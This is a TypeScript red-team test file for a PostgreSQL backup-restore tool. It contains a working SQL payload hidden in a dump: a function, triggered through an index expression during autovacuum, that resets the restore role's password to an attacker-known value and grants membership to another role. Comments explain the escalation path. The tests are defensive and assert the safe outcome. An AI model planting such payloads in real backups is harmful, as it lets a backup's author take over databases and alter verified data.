import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureImage, inActivity, query, removeContainers } from '../helpers';
import { asRole, CANARY_PASSWORD, CANARY_ROLE, operatorServer, type RedteamServer } from './setup';

/**
 * Red team, attack 3: the throwaway restore role becomes a login of the backup's author.
 *
 * The restore role is created LOGIN and stays LOGIN until it is dropped; "sealing" only sets PASSWORD NULL, and
 * withRestoredDatabase gives it a new password for the checks and never takes it away again. Any role may change
 * its own password: the backup's code, run as the restore role after the checks (autovacuum analyses the new
 * tables while the restore waits for approval, up to 24 h, or sits in a kept standby), sets one the author knows.
 * On PostgreSQL 15 a role that is its session's user may also grant membership in itself
 * (the self-admin rule PostgreSQL 16 removed): a `SELECT public.keys();` in the dump, run by psql logged in as the
 * restore role, makes any role the author names a member, and throwawayOwner only checks the role's own
 * memberships, not its members.
 *
 * Either way the author (with any login on the server, here `canary_role`, which may read pg_roles for the role's
 * name) owns the side database after it was verified: it changes the data the swap then puts live under a
 * "verified" report, and logs in to every other database PUBLIC may connect to, the live one included.
 *
 * Asserts the safe outcome: it FAILS while the attack works.
 */

const FILE = 'shop_20240503_020000.sql.gz';
const ATTACKER_PASSWORD = 'attacker-pw';
const PAYLOAD = `
CREATE FUNCTION public.keys() RETURNS void LANGUAGE plpgsql AS $k$
BEGIN
  BEGIN
    EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD %L', current_user, '${ATTACKER_PASSWORD}');
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE pg_catalog.format('GRANT %I TO ${CANARY_ROLE}', current_user);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
END
$k$;
CREATE FUNCTION public.stamp(id integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $s$
BEGIN
  PERFORM public.keys();
  RETURN id;
END
$s$;
CREATE INDEX customers_stamp ON public.customers (public.stamp(id));
SELECT public.keys();
`;

let env: RedteamServer;
let expectedOrders = 0;

beforeAll(async () => {
  await ensureImage();
  env = await operatorServer('rrlogin', FILE, PAYLOAD);
});

afterAll(async () => {
  await removeContainers([env?.server.name].filter(Boolean));
  await env?.backups.remove();
});

const names = {
  live: 'shop_db',
  side: 'shop_db_restore_20240503030000_9f8e7d',
  preRestore: 'shop_db_pre_restore_20240503030000_9f8e7d',
  failedRestore: 'shop_db_failed_restore_20240503030000_9f8e7d',
};

/** What the author sees with any login: the restore roles waiting on the server. */
async function restoreRoles(): Promise<string[]> {
  const rows = await asRole<{ rolname: string }>(
    env.server,
    CANARY_ROLE,
    CANARY_PASSWORD,
    'postgres',
    "SELECT rolname FROM pg_roles WHERE rolname LIKE 'opareta\\_restore\\_%'",
  );
  return rows.map((r) => r.rolname);
}

describe('the restore role after the checks, on a server set up with the operator role', () => {
  it('restores and verifies', async () => {
    const result = await inActivity(() =>
      env.activities.restoreBackup({ service: 'shop', file: FILE, targetDatabase: names.side }),
    );
    expectedOrders = result.tables.find((t) => t.table === 'public.orders')!.rows;
    const report = await inActivity(() =>
      env.activities.verifyRestoredDatabase({ service: 'shop', database: names.side, expected: result.tables }),
    );
    expect(report.passed).toBe(true);
  });

  it('no other role became a member of the restore role (PostgreSQL 15 self-admin from the dump)', async () => {
    const members = await query<{ member: string }>(
      env.server,
      `SELECT pg_get_userbyid(m.member) AS member FROM pg_auth_members m
        WHERE pg_get_userbyid(m.roleid) LIKE 'opareta\\_restore\\_%' AND pg_get_userbyid(m.member) <> 'opareta_operator'`,
    );
    console.log('attack 3 (self-admin): members of the restore role', members);
    expect(members).toEqual([]);
  });

  it("the backup's code, run by autovacuum while the restore waits for approval, gives nobody a login", async () => {
    // ANALYZE as a superuser evaluates the index expression as the table's owner, as autovacuum does.
    await query(env.server, 'ANALYZE public.customers', names.side);
    const logins: string[] = [];
    for (const role of await restoreRoles()) {
      for (const database of ['postgres', 'shop_db', names.side]) {
        const ok = await asRole(env.server, role, ATTACKER_PASSWORD, database, 'SELECT 1').then(
          () => true,
          () => false,
        );
        if (ok) logins.push(`${role}@${database}`);
      }
    }
    console.log('attack 3 (password): the author logs in as', logins);
    expect(logins).toEqual([]);
  });

  it('the swap puts live what was verified', async () => {
    // What the author does with that login (or as canary_role, through the membership): after the checks.
    const [role] = await restoreRoles();
    await asRole(env.server, role, ATTACKER_PASSWORD, names.side, 'DELETE FROM public.orders').catch(() =>
      asRole(env.server, CANARY_ROLE, CANARY_PASSWORD, names.side, 'DELETE FROM public.orders').catch(() => undefined),
    );
    expect(await inActivity(() => env.activities.swapDatabaseNames({ service: 'shop', names }))).toBe('swapped');
    const [{ n }] = await query<{ n: string }>(env.server, 'SELECT count(*) AS n FROM public.orders', 'shop_db');
    console.log('attack 3: orders live after the swap', Number(n), 'verified', expectedOrders);
    expect(Number(n)).toBe(expectedOrders);
  });
});
